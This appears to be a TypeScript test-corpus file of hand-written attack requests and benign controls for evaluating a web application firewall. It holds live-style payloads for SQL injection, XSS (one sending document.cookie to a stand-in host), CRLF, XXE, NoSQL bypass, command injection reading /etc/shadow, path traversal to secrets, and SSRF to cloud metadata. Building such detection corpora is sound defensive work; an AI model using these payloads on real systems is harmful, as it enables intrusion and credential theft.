/**
 * A third round of hand-written requests (2026-12-06; written for this corpus, not copied: the
 * gaps were found by measuring gotestwaf, waf-bypass and public lists, the payloads here are
 * new), appended after each class's older lines so their ids stay stable. What the earlier rounds
 * lacked: payloads encoded as base64, path segments read as route parameters, mail protocol
 * commands, concatenated select lists, SQL fragments that start where the application's value
 * ends, form strings inside values, JavaScript octal escapes, and the everyday requests these
 * readings must still let through (W3C DTDs in SVG, code posted in JSON fields, base64 state).
 * Six more were appended to the same lists later that day (doubled shell escapes, a substitution
 * inside a substitution, a bare positional ORDER BY, PyScript, a `javascript:` protocol set in
 * code, a global indexed by a name built from literals), two more traversals (every dot and
 * slash spelled `0x..`, IIS's `%c1%1c`) and two Vue template injections (`@event` running a
 * probe, `is="script"`).
 */
import type { CorpusRequest } from "../corpus.ts";

const UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
const headers = { "user-agent": UA, accept: "*/*" };
const enc = encodeURIComponent;
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const b64flat = (s: string) => b64(s).replaceAll("=", "");

const get = (path: string, query?: string): CorpusRequest => ({ method: "GET", path, query, headers });
const json = (path: string, body: unknown): CorpusRequest => ({
  method: "POST",
  path,
  contentType: "application/json",
  body: JSON.stringify(body),
  headers,
});
const form = (path: string, body: string): CorpusRequest => ({
  method: "POST",
  path,
  contentType: "application/x-www-form-urlencoded",
  body,
  headers,
});
const xml = (body: string, contentType = "application/xml"): CorpusRequest => ({
  method: "POST",
  path: "/v1/import",
  contentType,
  body,
  headers,
});
/** `\NNN` octal escapes of every character, as a script string holds them. */
const octal = (s: string) => Array.from({ length: s.length }, (_, i) => `\\${s.charCodeAt(i).toString(8)}`).join("");

export const roundThreeAttacks: Record<string, CorpusRequest[]> = {
  sqli: [
    get("/v1/search", `q=${b64flat("' or 'k'='k' -- ")}`),
    json("/v1/reports", { filter: b64("9 union select login, pw_hash from staff--") }),
    get("/v1/search", `q=${enc("' UNION SELECT login || ':' || pw_hash FROM staff")}`),
    form("/v1/search", `sort=${enc(" ORDER BY 4-- ")}`),
    get("/v1/search", `q=${enc(" AND 4410=4410 AND ('x'='x")}`),
    json("/v1/search", { q: "' union+/*!select*/ 7,8,9+from+staff-- " }),
    get(`/v1/content/${enc("7 union select name, secret from vault--")}`),
    // (appended later the same day) a positional ORDER BY with nothing else, after the app's number
    get("/v1/products", `category=${enc(" ORDER BY 9")}`),
  ],
  xss: [
    get(`/v1/content/${enc("prompt.apply(null,[document.domain])")}`),
    form("/v1/comments", `body=${b64flat('"><img src=x onerror=alert(document.domain)>')}`),
    get("/v1/search", `q=${enc(`[]["${octal("constructor")}"]["${octal("constructor")}"]("${octal("alert(1)")}")()`)}`),
    json("/v1/snippets", {
      html: "<py-script>import js; js.eval('fetch(\"//x.example/?\"+document.cookie)')</py-script>",
    }),
    get(
      "/v1/search",
      `q=${enc("a=document.createElement('a');a.href='//x.example/%0aconfirm(1)//';a.protocol='javascript:';a.click()")}`,
    ),
    form("/v1/comments", `body=${enc("parent[['ev'][0]+'al'](name)")}`),
    json("/v1/pages", { template: '<p @mouseover="$event.view.prompt(document.cookie)">hi</p>' }),
    get("/v1/preview", `html=${enc('<q is="script" src="https://x.example/p.js"></q>')}`),
  ],
  crlf: [
    get("/v1/notify", `to=${enc("ops@example.com\r\nRCPT TO: <everyone@example.com>\r\nDATA")}`),
    form("/v1/mailbox", `folder=${enc("INBOX\r\nA7 LOGIN admin hunter2\r\nA8 SELECT INBOX")}`),
  ],
  xxe: [
    xml('<?xml version="1.0"?><!DOCTYPE order SYSTEM "//198.51.100.7/o.dtd"><order><id>1</id></order>'),
    xml(
      '<!DOCTYPE svg SYSTEM "http://www.w3.org.evil.example/svg.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
      "image/svg+xml",
    ),
  ],
  template: [get("/v1/preview", `greeting=${enc("{{'abc'.concat('def')}}")}`)],
  nosql: [
    {
      method: "POST",
      path: "/login",
      body: enc(enc("email[$ne]=x@example.com&password[$ne]=x")),
      headers,
    },
    get("/v1/search", `q=${enc("login[$gt]=&pass[$gt]=")}`),
  ],
  command: [
    get("/v1/ping", `host=${enc("127.0.0.1;ls ${PWD:0:1}root")}`),
    json("/v1/tools/run", { target: b64("1.1.1.1 && cat /etc/shadow") }),
    get(`/v1/content/${enc(";cat /etc/passwd")}`),
    get("/v1/ping", `host=${enc("8.8.8.8|w\\\\h\\\\o\\\\a\\\\m\\\\i")}`),
    json("/v1/tools/run", { target: "$(`uname -a`)" }),
  ],
  traversal: [
    get("/v1/files", `path=${enc("/var/run/secrets/kubernetes.io/serviceaccount/token")}`),
    get("/v1/files", `path=${enc("0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fgshadow")}`),
    get("/v1/download", "file=..%25c1%251c..%25c1%251c..%25c1%251cboot.ini"),
  ],
  ssrf: [json("/v1/webhooks", { url: "http://169。254。169。254/latest/meta-data/iam/" })],
};

/** Everyday requests the readings above must let through. */
export const roundThreeOrdinary: CorpusRequest[] = [
  xml(
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="24" height="24"><path d="M4 12h16"/></svg>',
    "image/svg+xml",
  ),
  xml(
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hello</p></body></html>',
  ),
  json("/v1/notes", { title: "Saving works", snippet: "console.log('Saved', order.id);" }),
  json("/v1/notes", { snippet: "async function loadOrders(page) {", lang: "js" }),
  json("/v1/specs", { yaml: "schema:\n  $ref: '#/components/schemas/Order'" }),
  json("/v1/notes", { text: "Run it with '--verbose', or put '--' before file names that start with a dash." }),
  json("/v1/templates", { body: 'Total: {{ "{:,}".format(total) }} for {{ customer.name }}' }),
  get("/v1/auth/callback", `state=${enc(b64('{"returnTo":"/orders?page=2","nonce":"k29xQ"}'))}`),
  json("/v1/messages", { encoded: b64("Thanks for the quick reply, see you on Monday.") }),
  get("/wiki/Foo_(bar)"),
  get("/files/report%20(final).pdf"),
  get("/users/O'Brien/orders"),
  get("/v1/search", `q=${enc("C++ templates and std::vector")}`),
  form("/v1/search", `q=${enc(" and more to come")}`),
  get("/v1/search", `q=${enc("東京。大阪。京都。")}`),
];
